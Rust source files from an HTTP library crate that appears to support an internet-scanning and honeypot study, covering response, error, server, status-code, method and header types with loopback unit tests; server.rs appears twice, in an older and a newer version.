        self.status.is_redirect() && self.location().is_some()
    }
}

impl From<&str> for Response {
    fn from(s: &str) -> Self {
        Response::html(s.as_bytes().to_vec())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constructors_set_content_type() {
        assert_eq!(
            Response::html("<p>").headers.get("content-type"),
            Some("text/html; charset=utf-8")
        );
        assert_eq!(
            Response::json("{}").headers.get("content-type"),
            Some("application/json")
        );
        assert!(Response::text("x")
            .headers
            .get("content-type")
            .unwrap()
            .starts_with("text/plain"));
    }

    #[test]
    fn redirect_detection_requires_location() {
        let r = Response::redirect("/next");
        assert!(r.is_followable_redirect());
        assert_eq!(r.location(), Some("/next"));
        let bare = Response::new(StatusCode::FOUND);
        assert!(!bare.is_followable_redirect());
    }

    #[test]
    fn unauthorized_carries_challenge() {
        let r = Response::unauthorized("Jenkins");
        assert_eq!(r.status, StatusCode::UNAUTHORIZED);
        assert_eq!(
            r.headers.get("www-authenticate"),
            Some("Basic realm=\"Jenkins\"")
        );
    }

    #[test]
    fn body_text_is_lossy() {
        let r = Response::new(StatusCode::OK).with_body(vec![0x68, 0x69, 0xff]);
        assert_eq!(r.body_text(), "hi\u{fffd}");
    }

    #[test]
    fn body_str_borrows_clean_utf8() {
        let clean = Response::new(StatusCode::OK).with_body("plain ascii");
        assert!(matches!(clean.body_str(), std::borrow::Cow::Borrowed(_)));
        let dirty = Response::new(StatusCode::OK).with_body(vec![0x68, 0x69, 0xff]);
        assert!(matches!(dirty.body_str(), std::borrow::Cow::Owned(_)));
        assert_eq!(dirty.body_str(), "hi\u{fffd}");
    }
}
