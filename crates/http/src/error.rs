//! Error types shared across the HTTP stack.

use std::fmt;

/// Convenience alias used throughout the crate.
pub type Result<T> = std::result::Result<T, Error>;

/// Errors produced by parsing, transport or client logic.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Error {
    /// The peer closed the connection before a full message was received.
    UnexpectedEof,
    /// The bytes on the wire are not valid HTTP/1.x.
    Malformed(&'static str),
    /// A message exceeded a configured size limit.
    TooLarge {
        /// Which part of the message overflowed ("head" or "body").
        what: &'static str,
        /// The configured limit in bytes.
        limit: usize,
    },
    /// The URL could not be parsed.
    InvalidUrl(&'static str),
    /// Establishing a connection failed (refused, unreachable, reset).
    Connect(String),
    /// The operation did not complete within the configured deadline.
    Timeout,
    /// Redirect chain exceeded the configured maximum.
    TooManyRedirects(usize),
    /// The transport does not support the requested scheme (e.g. plain TCP
    /// transport asked for HTTPS).
    SchemeUnsupported,
    /// An I/O error bubbled up from the underlying stream.
    Io(String),
}

impl Error {
    /// Whether the failure is plausibly transient — a retry with
    /// backoff may succeed. Timeouts, peers dying mid-message and raw
    /// I/O failures qualify; protocol and addressing errors are
    /// terminal (retrying a refused connect or a malformed response
    /// reproduces the same failure).
    pub fn is_transient(&self) -> bool {
        matches!(self, Error::Timeout | Error::UnexpectedEof | Error::Io(_))
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Error::UnexpectedEof => write!(f, "connection closed mid-message"),
            Error::Malformed(what) => write!(f, "malformed HTTP message: {what}"),
            Error::TooLarge { what, limit } => {
                write!(f, "HTTP {what} exceeds limit of {limit} bytes")
            }
            Error::InvalidUrl(what) => write!(f, "invalid URL: {what}"),
            Error::Connect(e) => write!(f, "connect failed: {e}"),
            Error::Timeout => write!(f, "operation timed out"),
            Error::TooManyRedirects(n) => write!(f, "more than {n} redirects"),
            Error::SchemeUnsupported => write!(f, "scheme not supported by transport"),
            Error::Io(e) => write!(f, "i/o error: {e}"),
        }
    }
}

impl std::error::Error for Error {}

impl From<std::io::Error> for Error {
    fn from(e: std::io::Error) -> Self {
        match e.kind() {
            std::io::ErrorKind::UnexpectedEof => Error::UnexpectedEof,
            std::io::ErrorKind::TimedOut => Error::Timeout,
            _ => Error::Io(e.to_string()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_is_human_readable() {
        let e = Error::TooLarge {
            what: "body",
            limit: 42,
        };
        assert_eq!(e.to_string(), "HTTP body exceeds limit of 42 bytes");
        assert_eq!(Error::Timeout.to_string(), "operation timed out");
    }

    #[test]
    fn transient_classification_separates_retryable_from_terminal() {
        assert!(Error::Timeout.is_transient());
        assert!(Error::UnexpectedEof.is_transient());
        assert!(Error::Io("reset".into()).is_transient());
        assert!(!Error::Connect("refused".into()).is_transient());
        assert!(!Error::Malformed("bad status line").is_transient());
        assert!(!Error::SchemeUnsupported.is_transient());
        assert!(!Error::InvalidUrl("empty").is_transient());
        assert!(!Error::TooManyRedirects(5).is_transient());
        assert!(!Error::TooLarge {
            what: "body",
            limit: 1
        }
        .is_transient());
    }

    #[test]
    fn io_error_conversion_maps_kinds() {
        let eof = std::io::Error::new(std::io::ErrorKind::UnexpectedEof, "eof");
        assert_eq!(Error::from(eof), Error::UnexpectedEof);
        let to = std::io::Error::new(std::io::ErrorKind::TimedOut, "slow");
        assert_eq!(Error::from(to), Error::Timeout);
        let other = std::io::Error::other("boom");
        assert!(matches!(Error::from(other), Error::Io(_)));
    }
}
