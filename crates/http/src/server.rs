//! Minimal HTTP server loop for exposing handlers over real sockets.
//!
//! Application models from `nokeys-apps` implement [`Handler`]; the
//! `live_scan` example serves them on loopback and scans them with the real
//! pipeline. The simulated transport in `nokeys-netsim` calls handlers
//! directly without a socket.

use crate::encode::encode_response;
use crate::error::{Error, Result};
use crate::parse::{parse_request_incremental, HeadScanner, Limits, Parsed};
use crate::request::Request;
use crate::response::Response;
use crate::version::Version;
use bytes::BytesMut;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

/// A synchronous request handler.
///
/// Handlers are synchronous on purpose: application models are pure state
/// machines, and keeping them sync lets the discrete-event simulation call
/// them deterministically.
pub trait Handler: Send + Sync {
    /// Produce the response for `req` arriving from `peer`.
    fn handle(&self, req: &Request, peer: Ipv4Addr) -> Response;
}

impl<F> Handler for F
where
    F: Fn(&Request, Ipv4Addr) -> Response + Send + Sync,
{
    fn handle(&self, req: &Request, peer: Ipv4Addr) -> Response {
        self(req, peer)
    }
}

/// Serve a single already-accepted connection: read requests until the
/// peer closes or an error occurs, answering each via `handler`.
/// Pipelined requests arriving in one read are answered in order — the
/// parse loop drains the buffer before reading more bytes.
///
/// Connection lifecycle follows the request's HTTP version: 1.1 keeps
/// the connection open unless a `close` token appears, 1.0 closes
/// unless the peer opted into `keep-alive`. A handler response carrying
/// `Connection: close` also closes. The decision is echoed explicitly
/// (`Connection: close` before closing, `Connection: keep-alive` for
/// 1.0 peers being kept open) so clients never have to guess.
pub async fn serve_connection<S, H>(mut stream: S, handler: &H, peer: Ipv4Addr) -> Result<()>
where
    S: AsyncRead + AsyncWrite + Unpin,
    H: Handler + ?Sized,
{
    let limits = Limits::default();
    let mut buf = BytesMut::with_capacity(4096);
    let mut scanner = HeadScanner::new();
    loop {
        match parse_request_incremental(&buf, &limits, &mut scanner) {
            Ok(Parsed::Complete(req, used)) => {
                let request_close = req.headers.connection_close()
                    || (req.version == Version::Http10 && !req.headers.connection_keep_alive());
                let mut resp = handler.handle(&req, peer);
                let close = request_close || resp.headers.connection_close();
                if close {
                    resp.headers.set("Connection", "close");
                } else if req.version == Version::Http10 {
                    resp.headers.set("Connection", "keep-alive");
                }
                stream.write_all(&encode_response(&resp)).await?;
                let _ = buf.split_to(used);
                scanner.reset();
                if close {
                    let _ = stream.shutdown().await;
                    return Ok(());
                }
            }
            Ok(Parsed::Partial) => {
                let n = stream.read_buf(&mut buf).await?;
                if n == 0 {
                    // Clean close between messages is fine; mid-message is
                    // a protocol error from the peer.
                    return if buf.is_empty() {
                        Ok(())
                    } else {
                        Err(Error::UnexpectedEof)
                    };
                }
            }
            Err(e) => {
                let resp = Response::new(crate::StatusCode::BAD_REQUEST)
                    .with_body(format!("bad request: {e}"));
                let _ = stream.write_all(&encode_response(&resp)).await;
                return Err(e);
            }
        }
    }
}

/// A running TCP server; dropping the returned handle does not stop the
/// accept loop — call [`ServerHandle::shutdown`].
pub struct ServerHandle {
    /// Port the server is listening on (useful with port 0 binds).
    pub port: u16,
    shutdown: tokio::sync::watch::Sender<bool>,
    task: tokio::task::JoinHandle<()>,
}

impl ServerHandle {
    /// Stop accepting and wait for the accept loop to end.
    pub async fn shutdown(self) {
        let _ = self.shutdown.send(true);
        let _ = self.task.await;
    }
}

/// Bind `addr:port` (port 0 allocates) and serve `handler` until shutdown.
pub async fn serve_tcp<H>(addr: Ipv4Addr, port: u16, handler: Arc<H>) -> Result<ServerHandle>
where
    H: Handler + 'static,
{
    let listener = tokio::net::TcpListener::bind((addr, port))
        .await
        .map_err(|e| Error::Connect(e.to_string()))?;
    let port = listener.local_addr().map_err(Error::from)?.port();
    let (tx, rx) = tokio::sync::watch::channel(false);
    let task = tokio::spawn(async move {
        accept_loop(|| listener.accept(), handler, rx).await;
    });
    Ok(ServerHandle {
        port,
        shutdown: tx,
        task,
    })
}

/// Accept connections from `accept` until `shutdown` flips, spawning a
/// [`serve_connection`] task per stream.
///
/// Accept errors are survived, not fatal: they are routinely transient
/// (`EMFILE`/`ENFILE` under descriptor pressure, `ECONNABORTED` when a
/// peer resets between SYN and accept) and a permanent exit would
/// silently kill the listener. The loop backs off briefly — doubling
/// from 1ms and capped at 100ms — which lets descriptor pressure drain
/// instead of spinning, and resets the backoff after the next
/// successful accept.
async fn accept_loop<A, Fut, S, H>(
    accept: A,
    handler: Arc<H>,
    mut shutdown: tokio::sync::watch::Receiver<bool>,
) where
    A: Fn() -> Fut,
    Fut: std::future::Future<Output = std::io::Result<(S, SocketAddr)>>,
    S: AsyncRead + AsyncWrite + Unpin + Send + 'static,
    H: Handler + ?Sized + 'static,
{
    let mut backoff = Duration::from_millis(1);
    loop {
        tokio::select! {
            accepted = accept() => {
                match accepted {
                    Ok((stream, peer)) => {
                        backoff = Duration::from_millis(1);
                        let peer_ip = match peer.ip() {
                            std::net::IpAddr::V4(ip) => ip,
                            std::net::IpAddr::V6(_) => Ipv4Addr::UNSPECIFIED,
                        };
                        let handler = Arc::clone(&handler);
                        tokio::spawn(async move {
                            let _ = serve_connection(stream, handler.as_ref(), peer_ip).await;
                        });
                    }
                    Err(_) => {
                        tokio::time::sleep(backoff).await;
                        backoff = (backoff * 2).min(Duration::from_millis(100));
                    }
                }
            }
            _ = shutdown.changed() => break,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::Client;
    use crate::transport::TcpTransport;
    use crate::url::Url;

    #[tokio::test]
    async fn serves_handler_over_tcp() {
        let handler = Arc::new(|req: &Request, _peer: Ipv4Addr| {
            if req.path() == "/version" {
                Response::json(r#"{"MinAPIVersion":"1.12"}"#)
            } else {
                Response::not_found()
            }
        });
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
        let client = Client::new(TcpTransport::default());
        let url = Url::parse(&format!("http://127.0.0.1:{}/version", server.port)).unwrap();
        let fetched = client.get(&url).await.unwrap();
        assert!(fetched.response.body_text().contains("MinAPIVersion"));
        let miss = Url::parse(&format!("http://127.0.0.1:{}/other", server.port)).unwrap();
        assert_eq!(
            client.get(&miss).await.unwrap().response.status.as_u16(),
            404
        );
        server.shutdown().await;
    }

    #[tokio::test]
    async fn keep_alive_handles_sequential_requests() {
        let handler = Arc::new(|req: &Request, _| Response::text(req.path().to_string()));
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();

        // Speak raw keep-alive HTTP over one connection.
        let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", server.port))
            .await
            .unwrap();
        for path in ["/a", "/b"] {
            let req = format!("GET {path} HTTP/1.1\r\nHost: h\r\n\r\n");
            stream.write_all(req.as_bytes()).await.unwrap();
            let mut buf = vec![0u8; 1024];
            let n = stream.read(&mut buf).await.unwrap();
            let text = String::from_utf8_lossy(&buf[..n]).into_owned();
            assert!(text.contains(&format!("\r\n\r\n{path}")), "{text}");
        }
        server.shutdown().await;
    }

    /// Open a raw socket to the server and return the full byte stream
    /// the server sends before closing — hangs (and fails via the test
    /// timeout) if the server never closes.
    async fn raw_exchange(port: u16, request: &str) -> String {
        let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .unwrap();
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut out = Vec::new();
        stream.read_to_end(&mut out).await.unwrap();
        String::from_utf8_lossy(&out).into_owned()
    }

    #[tokio::test]
    async fn http10_request_closes_after_response() {
        let handler = Arc::new(|_: &Request, _| Response::text("legacy"));
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
        // An HTTP/1.0 client without keep-alive reads to EOF; the old
        // server held the connection open and this would hang forever.
        let text = raw_exchange(server.port, "GET / HTTP/1.0\r\nHost: h\r\n\r\n").await;
        assert!(text.contains("legacy"), "{text}");
        assert!(text.contains("Connection: close"), "{text}");
        server.shutdown().await;
    }

    #[tokio::test]
    async fn http10_keep_alive_opt_in_is_honored() {
        let handler = Arc::new(|req: &Request, _| Response::text(req.path().to_string()));
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
        let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", server.port))
            .await
            .unwrap();
        for path in ["/a", "/b"] {
            let req = format!("GET {path} HTTP/1.0\r\nHost: h\r\nConnection: keep-alive\r\n\r\n");
            stream.write_all(req.as_bytes()).await.unwrap();
            let mut buf = vec![0u8; 1024];
            let n = stream.read(&mut buf).await.unwrap();
            let text = String::from_utf8_lossy(&buf[..n]).into_owned();
            assert!(text.contains(&format!("\r\n\r\n{path}")), "{text}");
            // The server must echo the keep-alive it is granting.
            assert!(text.contains("Connection: keep-alive"), "{text}");
        }
        server.shutdown().await;
    }

    #[tokio::test]
    async fn connection_token_list_closes() {
        let handler = Arc::new(|_: &Request, _| Response::text("ok"));
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
        // `close` buried in a token list defeated the old exact match.
        let text = raw_exchange(
            server.port,
            "GET / HTTP/1.1\r\nHost: h\r\nConnection: keep-alive, close\r\n\r\n",
        )
        .await;
        assert!(text.contains("ok"), "{text}");
        assert!(text.contains("Connection: close"), "{text}");
        server.shutdown().await;
    }

    #[tokio::test]
    async fn handler_close_header_closes_the_connection() {
        let handler =
            Arc::new(|_: &Request, _| Response::text("bye").with_header("Connection", "close"));
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
        // Plain keep-alive request; the handler decides to close.
        let text = raw_exchange(server.port, "GET / HTTP/1.1\r\nHost: h\r\n\r\n").await;
        assert!(text.contains("bye"), "{text}");
        assert!(text.contains("Connection: close"), "{text}");
        server.shutdown().await;
    }

    #[tokio::test]
    async fn accept_loop_survives_transient_accept_errors() {
        use std::sync::Mutex;
        let handler = Arc::new(|_: &Request, _: Ipv4Addr| Response::text("served"));
        let (tx, rx) = tokio::sync::watch::channel(false);
        let (mut client_side, server_side) = tokio::io::duplex(4096);
        // Acceptor script: three transient errors, then one real
        // stream, then pend until shutdown. The old loop `break`ed on
        // the first error and the exchange below would never complete.
        let state = Arc::new(Mutex::new((0u32, Some(server_side))));
        let accept_state = Arc::clone(&state);
        let accept = move || {
            let state = Arc::clone(&accept_state);
            async move {
                let action = {
                    let mut guard = state.lock().unwrap();
                    guard.0 += 1;
                    if guard.0 <= 3 {
                        Some(Err(std::io::Error::other("accept: EMFILE")))
                    } else {
                        guard
                            .1
                            .take()
                            .map(|s| Ok((s, SocketAddr::from(([127, 0, 0, 1], 9)))))
                    }
                };
                match action {
                    Some(result) => result,
                    None => std::future::pending().await,
                }
            }
        };
        let loop_task = tokio::spawn(accept_loop(accept, handler, rx));
        client_side
            .write_all(b"GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")
            .await
            .unwrap();
        let mut out = Vec::new();
        client_side.read_to_end(&mut out).await.unwrap();
        let text = String::from_utf8_lossy(&out);
        assert!(text.contains("served"), "{text}");
        assert!(state.lock().unwrap().0 >= 4, "errors were not retried");
        let _ = tx.send(true);
        loop_task.await.unwrap();
    }

    #[tokio::test]
    async fn malformed_request_gets_400() {
        let handler = Arc::new(|_: &Request, _| Response::text("never"));
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
        let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", server.port))
            .await
            .unwrap();
        stream.write_all(b"NONSENSE\r\n\r\n").await.unwrap();
        let mut buf = vec![0u8; 1024];
        let n = stream.read(&mut buf).await.unwrap();
        let text = String::from_utf8_lossy(&buf[..n]).into_owned();
        assert!(text.starts_with("HTTP/1.1 400"), "{text}");
        server.shutdown().await;
    }
}
