//! Minimal HTTP server loop for exposing handlers over real sockets.
//!
//! Application models from `nokeys-apps` implement [`Handler`]; the
//! `live_scan` example serves them on loopback and scans them with the real
//! pipeline. The simulated transport in `nokeys-netsim` calls handlers
//! directly without a socket.

use crate::encode::encode_response;
use crate::error::{Error, Result};
use crate::parse::{parse_request_incremental, HeadScanner, Limits, Parsed};
use crate::request::Request;
use crate::response::Response;
use bytes::BytesMut;
use std::net::Ipv4Addr;
use std::sync::Arc;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

/// A synchronous request handler.
///
/// Handlers are synchronous on purpose: application models are pure state
/// machines, and keeping them sync lets the discrete-event simulation call
/// them deterministically.
pub trait Handler: Send + Sync {
    /// Produce the response for `req` arriving from `peer`.
    fn handle(&self, req: &Request, peer: Ipv4Addr) -> Response;
}

impl<F> Handler for F
where
    F: Fn(&Request, Ipv4Addr) -> Response + Send + Sync,
{
    fn handle(&self, req: &Request, peer: Ipv4Addr) -> Response {
        self(req, peer)
    }
}

/// Serve a single already-accepted connection: read requests until the
/// peer closes or an error occurs, answering each via `handler`.
pub async fn serve_connection<S, H>(mut stream: S, handler: &H, peer: Ipv4Addr) -> Result<()>
where
    S: AsyncRead + AsyncWrite + Unpin,
    H: Handler + ?Sized,
{
    let limits = Limits::default();
    let mut buf = BytesMut::with_capacity(4096);
    let mut scanner = HeadScanner::new();
    loop {
        match parse_request_incremental(&buf, &limits, &mut scanner) {
            Ok(Parsed::Complete(req, used)) => {
                let close = req
                    .headers
                    .get("connection")
                    .map(|v| v.eq_ignore_ascii_case("close"))
                    .unwrap_or(false);
                let resp = handler.handle(&req, peer);
                stream.write_all(&encode_response(&resp)).await?;
                let _ = buf.split_to(used);
                scanner.reset();
                if close {
                    return Ok(());
                }
            }
            Ok(Parsed::Partial) => {
                let n = stream.read_buf(&mut buf).await?;
                if n == 0 {
                    // Clean close between messages is fine; mid-message is
                    // a protocol error from the peer.
                    return if buf.is_empty() {
                        Ok(())
                    } else {
                        Err(Error::UnexpectedEof)
                    };
                }
            }
            Err(e) => {
                let resp = Response::new(crate::StatusCode::BAD_REQUEST)
                    .with_body(format!("bad request: {e}"));
                let _ = stream.write_all(&encode_response(&resp)).await;
                return Err(e);
            }
        }
    }
}

/// A running TCP server; dropping the returned handle does not stop the
/// accept loop — call [`ServerHandle::shutdown`].
pub struct ServerHandle {
    /// Port the server is listening on (useful with port 0 binds).
    pub port: u16,
    shutdown: tokio::sync::watch::Sender<bool>,
    task: tokio::task::JoinHandle<()>,
}

impl ServerHandle {
    /// Stop accepting and wait for the accept loop to end.
    pub async fn shutdown(self) {
        let _ = self.shutdown.send(true);
        let _ = self.task.await;
    }
}

/// Bind `addr:port` (port 0 allocates) and serve `handler` until shutdown.
pub async fn serve_tcp<H>(addr: Ipv4Addr, port: u16, handler: Arc<H>) -> Result<ServerHandle>
where
    H: Handler + 'static,
{
    let listener = tokio::net::TcpListener::bind((addr, port))
        .await
        .map_err(|e| Error::Connect(e.to_string()))?;
    let port = listener.local_addr().map_err(Error::from)?.port();
    let (tx, mut rx) = tokio::sync::watch::channel(false);
    let task = tokio::spawn(async move {
        loop {
            tokio::select! {
                accepted = listener.accept() => {
                    let Ok((stream, peer)) = accepted else { break };
                    let peer_ip = match peer.ip() {
                        std::net::IpAddr::V4(ip) => ip,
                        std::net::IpAddr::V6(_) => Ipv4Addr::UNSPECIFIED,
                    };
                    let handler = Arc::clone(&handler);
                    tokio::spawn(async move {
                        let _ = serve_connection(stream, handler.as_ref(), peer_ip).await;
                    });
                }
                _ = rx.changed() => break,
            }
        }
    });
    Ok(ServerHandle {
        port,
        shutdown: tx,
        task,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::Client;
    use crate::transport::TcpTransport;
    use crate::url::Url;

    #[tokio::test]
    async fn serves_handler_over_tcp() {
        let handler = Arc::new(|req: &Request, _peer: Ipv4Addr| {
            if req.path() == "/version" {
                Response::json(r#"{"MinAPIVersion":"1.12"}"#)
            } else {
                Response::not_found()
            }
        });
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
        let client = Client::new(TcpTransport::default());
        let url = Url::parse(&format!("http://127.0.0.1:{}/version", server.port)).unwrap();
        let fetched = client.get(&url).await.unwrap();
        assert!(fetched.response.body_text().contains("MinAPIVersion"));
        let miss = Url::parse(&format!("http://127.0.0.1:{}/other", server.port)).unwrap();
        assert_eq!(
            client.get(&miss).await.unwrap().response.status.as_u16(),
            404
        );
        server.shutdown().await;
    }

    #[tokio::test]
    async fn keep_alive_handles_sequential_requests() {
        let handler = Arc::new(|req: &Request, _| Response::text(req.path().to_string()));
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();

        // Speak raw keep-alive HTTP over one connection.
        let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", server.port))
            .await
            .unwrap();
        for path in ["/a", "/b"] {
            let req = format!("GET {path} HTTP/1.1\r\nHost: h\r\n\r\n");
            stream.write_all(req.as_bytes()).await.unwrap();
            let mut buf = vec![0u8; 1024];
            let n = stream.read(&mut buf).await.unwrap();
            let text = String::from_utf8_lossy(&buf[..n]).into_owned();
            assert!(text.contains(&format!("\r\n\r\n{path}")), "{text}");
        }
        server.shutdown().await;
    }

    #[tokio::test]
    async fn malformed_request_gets_400() {
        let handler = Arc::new(|_: &Request, _| Response::text("never"));
        let server = serve_tcp(Ipv4Addr::LOCALHOST, 0, handler).await.unwrap();
        let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", server.port))
            .await
            .unwrap();
        stream.write_all(b"NONSENSE\r\n\r\n").await.unwrap();
        let mut buf = vec![0u8; 1024];
        let n = stream.read(&mut buf).await.unwrap();
        let text = String::from_utf8_lossy(&buf[..n]).into_owned();
        assert!(text.starts_with("HTTP/1.1 400"), "{text}");
        server.shutdown().await;
    }
}
