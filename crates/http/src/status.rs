//! HTTP status codes.

use std::fmt;

/// An HTTP status code.
///
/// Stored as the raw `u16`; helper constructors exist for the codes the
/// study actually exercises.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
)]
pub struct StatusCode(pub u16);

impl StatusCode {
    pub const OK: StatusCode = StatusCode(200);
    pub const CREATED: StatusCode = StatusCode(201);
    pub const NO_CONTENT: StatusCode = StatusCode(204);
    pub const MOVED_PERMANENTLY: StatusCode = StatusCode(301);
    pub const FOUND: StatusCode = StatusCode(302);
    pub const SEE_OTHER: StatusCode = StatusCode(303);
    pub const TEMPORARY_REDIRECT: StatusCode = StatusCode(307);
    pub const PERMANENT_REDIRECT: StatusCode = StatusCode(308);
    pub const BAD_REQUEST: StatusCode = StatusCode(400);
    pub const UNAUTHORIZED: StatusCode = StatusCode(401);
    pub const FORBIDDEN: StatusCode = StatusCode(403);
    pub const NOT_FOUND: StatusCode = StatusCode(404);
    pub const METHOD_NOT_ALLOWED: StatusCode = StatusCode(405);
    pub const INTERNAL_SERVER_ERROR: StatusCode = StatusCode(500);
    pub const BAD_GATEWAY: StatusCode = StatusCode(502);
    pub const SERVICE_UNAVAILABLE: StatusCode = StatusCode(503);

    /// The numeric code.
    pub fn as_u16(self) -> u16 {
        self.0
    }

    /// `2xx`.
    pub fn is_success(self) -> bool {
        (200..300).contains(&self.0)
    }

    /// `3xx` codes that carry a `Location` header the client should follow.
    pub fn is_redirect(self) -> bool {
        matches!(self.0, 301 | 302 | 303 | 307 | 308)
    }

    /// `4xx`.
    pub fn is_client_error(self) -> bool {
        (400..500).contains(&self.0)
    }

    /// `5xx`.
    pub fn is_server_error(self) -> bool {
        (500..600).contains(&self.0)
    }

    /// Canonical reason phrase; unknown codes get an empty phrase, which is
    /// valid on the wire.
    pub fn reason(self) -> &'static str {
        match self.0 {
            200 => "OK",
            201 => "Created",
            204 => "No Content",
            301 => "Moved Permanently",
            302 => "Found",
            303 => "See Other",
            307 => "Temporary Redirect",
            308 => "Permanent Redirect",
            400 => "Bad Request",
            401 => "Unauthorized",
            403 => "Forbidden",
            404 => "Not Found",
            405 => "Method Not Allowed",
            500 => "Internal Server Error",
            502 => "Bad Gateway",
            503 => "Service Unavailable",
            _ => "",
        }
    }
}

impl fmt::Display for StatusCode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let reason = self.reason();
        if reason.is_empty() {
            write!(f, "{}", self.0)
        } else {
            write!(f, "{} {}", self.0, reason)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classification() {
        assert!(StatusCode::OK.is_success());
        assert!(StatusCode::FOUND.is_redirect());
        assert!(
            !StatusCode(304).is_redirect(),
            "304 has no Location to follow"
        );
        assert!(StatusCode::NOT_FOUND.is_client_error());
        assert!(StatusCode::BAD_GATEWAY.is_server_error());
    }

    #[test]
    fn display_includes_reason_when_known() {
        assert_eq!(StatusCode::OK.to_string(), "200 OK");
        assert_eq!(StatusCode(299).to_string(), "299");
    }
}
