//! HTTP request methods.

use std::fmt;
use std::str::FromStr;

/// The subset of HTTP methods the study needs.
///
/// The paper's scanner is restricted to non-state-changing `GET` requests
/// (plus `HEAD` for cheap liveness checks); the honeypot side additionally
/// observes attacker `POST`/`PUT`/`DELETE` traffic, so the full common set
/// is modeled.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
pub enum Method {
    Get,
    Head,
    Post,
    Put,
    Delete,
    Options,
    Patch,
}

impl Method {
    /// Canonical wire representation.
    pub fn as_str(self) -> &'static str {
        match self {
            Method::Get => "GET",
            Method::Head => "HEAD",
            Method::Post => "POST",
            Method::Put => "PUT",
            Method::Delete => "DELETE",
            Method::Options => "OPTIONS",
            Method::Patch => "PATCH",
        }
    }

    /// Whether the method is safe in the RFC 7231 sense (no server state
    /// change). The scanner only ever issues safe methods, matching the
    /// paper's ethical constraints.
    pub fn is_safe(self) -> bool {
        matches!(self, Method::Get | Method::Head | Method::Options)
    }
}

impl fmt::Display for Method {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for Method {
    type Err = ();

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Ok(match s {
            "GET" => Method::Get,
            "HEAD" => Method::Head,
            "POST" => Method::Post,
            "PUT" => Method::Put,
            "DELETE" => Method::Delete,
            "OPTIONS" => Method::Options,
            "PATCH" => Method::Patch,
            _ => return Err(()),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trips_through_strings() {
        for m in [
            Method::Get,
            Method::Head,
            Method::Post,
            Method::Put,
            Method::Delete,
            Method::Options,
            Method::Patch,
        ] {
            assert_eq!(m.as_str().parse::<Method>(), Ok(m));
        }
    }

    #[test]
    fn rejects_unknown_and_lowercase() {
        assert!("TRACE".parse::<Method>().is_err());
        assert!("get".parse::<Method>().is_err());
    }

    #[test]
    fn safety_classification() {
        assert!(Method::Get.is_safe());
        assert!(Method::Head.is_safe());
        assert!(!Method::Post.is_safe());
        assert!(!Method::Delete.is_safe());
    }
}
