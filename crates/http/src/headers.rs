//! Case-insensitive, order-preserving header map.

use crate::error::{Error, Result};
use std::fmt;

/// An ordered multimap of HTTP header fields.
///
/// Lookup is case-insensitive (per RFC 9110) while the original casing and
/// insertion order are preserved for serialization, which keeps wire output
/// stable and therefore testable.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct Headers {
    entries: Vec<(String, String)>,
}

impl Headers {
    /// An empty header map.
    pub fn new() -> Self {
        Self::default()
    }

    /// Append a header field, keeping any existing fields of the same name.
    pub fn append(&mut self, name: impl Into<String>, value: impl Into<String>) {
        self.entries.push((name.into(), value.into()));
    }

    /// Replace all fields of `name` with a single field carrying `value`.
    pub fn set(&mut self, name: &str, value: impl Into<String>) {
        self.remove(name);
        self.entries.push((name.to_string(), value.into()));
    }

    /// Remove all fields of `name`, returning how many were removed.
    pub fn remove(&mut self, name: &str) -> usize {
        let before = self.entries.len();
        self.entries.retain(|(n, _)| !n.eq_ignore_ascii_case(name));
        before - self.entries.len()
    }

    /// First value of `name`, if present.
    pub fn get(&self, name: &str) -> Option<&str> {
        self.entries
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// All values of `name`, in insertion order.
    pub fn get_all<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'a str> + 'a {
        self.entries
            .iter()
            .filter(move |(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// Whether a field of `name` exists.
    pub fn contains(&self, name: &str) -> bool {
        self.get(name).is_some()
    }

    /// Parsed `Content-Length`, if present.
    ///
    /// Strict per RFC 9110 §8.6: every field value must be a plain ASCII
